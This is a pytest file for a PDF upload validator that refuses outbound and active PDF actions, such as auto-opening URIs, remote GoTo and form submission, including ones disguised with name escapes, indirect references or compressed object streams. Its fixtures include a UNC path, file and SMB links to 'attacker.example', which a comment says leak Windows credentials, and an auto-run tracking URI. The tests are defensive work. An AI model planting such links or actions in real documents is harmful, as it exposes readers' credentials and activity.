"""PDF actions in uploads: those that leave the document or run something are refused
wherever they sit and however their names are spelled; links within the document stay,
and so do web links that wait for a click."""

from __future__ import annotations

import io

import pytest
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject

from pledges.uploads import UploadRejected, check_upload
from tests.pledges import samples

OUTBOUND = ("/URI", "/GoToR", "/GoToE", "/Thread", "/SubmitForm", "/ImportData")
#: Refused as active content; /JavaScript and /Launch have their own cases in test_uploads.
ACTIVE = ("/Rendition", "/Sound", "/Movie", "/Hide", "/SetOCGState", "/GoTo3DView")


def _refusal(data: bytes) -> UploadRejected:
    with pytest.raises(UploadRejected) as caught:
        check_upload(data, "证据.pdf")
    return caught.value


@pytest.mark.parametrize("kind", OUTBOUND)
def test_an_action_that_leaves_the_document_is_refused_on_opening(kind):
    refusal = _refusal(samples.pdf_with_action(kind, "open"))
    assert refusal.code == "outbound_action"
    assert kind in str(refusal) and "连接外部服务器" in str(refusal)


@pytest.mark.parametrize("kind", ACTIVE)
def test_an_action_that_plays_media_or_changes_the_page_is_refused(kind):
    refusal = _refusal(samples.pdf_with_action(kind, "open"))
    assert refusal.code == "active_content" and kind in str(refusal)


#: Addresses that are not web links: a file, a UNC path (Windows sends the reader's
#: credentials to the host), a share.
NOT_WEB = (
    "file://attacker.example/share/x.pdf",
    "\\\\attacker.example\\share",
    "smb://attacker.example/x",
)


@pytest.mark.parametrize("place", ["open", "next"])
def test_a_web_address_run_on_opening_is_refused(place):
    refusal = _refusal(samples.pdf_with_action("/URI", place))
    assert refusal.code == "outbound_action" and refusal.params == {"what": "/URI"}


def test_a_web_address_among_the_document_scripts_is_refused():
    # The names tree of document actions is /JavaScript, a key refused in itself.
    refusal = _refusal(samples.pdf_with_action("/URI", "names"))
    assert refusal.params["what"].split("、") == ["/JavaScript"]


@pytest.mark.parametrize("place", ["link", "outline", "field"])
@pytest.mark.parametrize(
    "address", ["https://www.nhsa.gov.cn/", "HTTP://example.cn/a", " mailto:ybj@example.cn"]
)
def test_a_web_link_to_click_is_accepted(place, address):
    """An office program links every web and mail address in a document it exports:
    followed only when clicked, and readers ask first."""
    data = samples.pdf_with_action("/URI", place, **{"/URI": address})
    assert check_upload(data, "情况说明.pdf").pages == 1


@pytest.mark.parametrize("place", ["link", "outline", "field"])
@pytest.mark.parametrize("address", NOT_WEB)
def test_a_link_to_a_file_or_share_is_refused(place, address):
    refusal = _refusal(samples.pdf_with_action("/URI", place, **{"/URI": address}))
    assert refusal.code == "outbound_action" and refusal.params == {"what": "/URI"}


@pytest.mark.parametrize("place", ["open", "link", "outline"])
def test_a_unc_path_to_another_pdf_is_refused(place):
    refusal = _refusal(samples.pdf_with_action("/GoToR", place))
    assert refusal.code == "outbound_action" and refusal.params == {"what": "/GoToR"}


def test_with_a_script_as_well_the_general_message_names_both():
    data = samples.pdf_with_action("/URI", "open", **{"/Next": {"/S": "/JavaScript"}})
    refusal = _refusal(data)
    assert refusal.code == "active_content" and refusal.params == {"what": "/JavaScript、/URI"}


@pytest.mark.parametrize(
    ("kind", "old", "new"),
    [
        ("/URI", b"/S /URI", b"/S /U#52I"),
        ("/URI", b"/S /URI", b"/#53 /#55#52#49"),
        ("/GoToR", b"/S /GoToR", b"/S /GoTo#52"),
    ],
)
def test_names_spelled_with_escapes_are_seen_through(kind, old, new):
    entries = {"/URI": NOT_WEB[0]} if kind == "/URI" else {}
    data = samples.respelled(samples.pdf_with_action(kind, "link", **entries), old, new)
    assert old not in data
    assert _refusal(data).params == {"what": kind}


@pytest.mark.parametrize("kind", ["/Launch", "/URI"])
def test_an_action_type_given_by_reference_is_resolved(kind):
    """``/S 5 0 R`` with object 5 the name: a /Launch action then has no /Launch key at all."""
    data = samples.pdf_with_action(kind, "open", by_reference=True)
    assert b"/S " + kind.encode() not in data
    assert _refusal(data).params == {"what": kind}


def test_an_annotation_subtype_given_by_reference_is_resolved():
    writer = PdfWriter()
    page = writer.add_blank_page(width=595, height=842)
    screen = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): writer._add_object(NameObject("/Screen")),
            NameObject("/Rect"): ArrayObject(),
        }
    )
    page[NameObject("/Annots")] = ArrayObject([writer._add_object(screen)])
    out = io.BytesIO()
    writer.write(out)
    assert _refusal(out.getvalue()).params == {"what": "/Screen"}


def test_an_action_inside_a_compressed_object_stream_is_refused():
    action = b"<< /S /URI /URI (http://attacker.example/track) >>"
    data = samples.pdf_with_action_in_object_stream(action)
    assert b"URI" not in data and b"attacker" not in data
    assert 4 in PdfReader(io.BytesIO(data)).xref_objStm
    assert _refusal(data).params == {"what": "/URI"}
    # The same file with a link within the document is taken: the refusal is the action's.
    inside = samples.pdf_with_action_in_object_stream(b"<< /S /GoTo /D [3 0 R /Fit] >>")
    assert check_upload(inside, "证据.pdf").pages == 1


def test_a_scan_with_an_outline_of_links_to_its_pages_is_accepted():
    data = samples.scanned_pdf_with_outline(pages=3)
    reader = PdfReader(io.BytesIO(data))
    assert len(reader.outline) == 3 and reader.page_labels == ["1", "2", "3"]
    assert check_upload(data, "承诺书扫描件.pdf").pages == 3
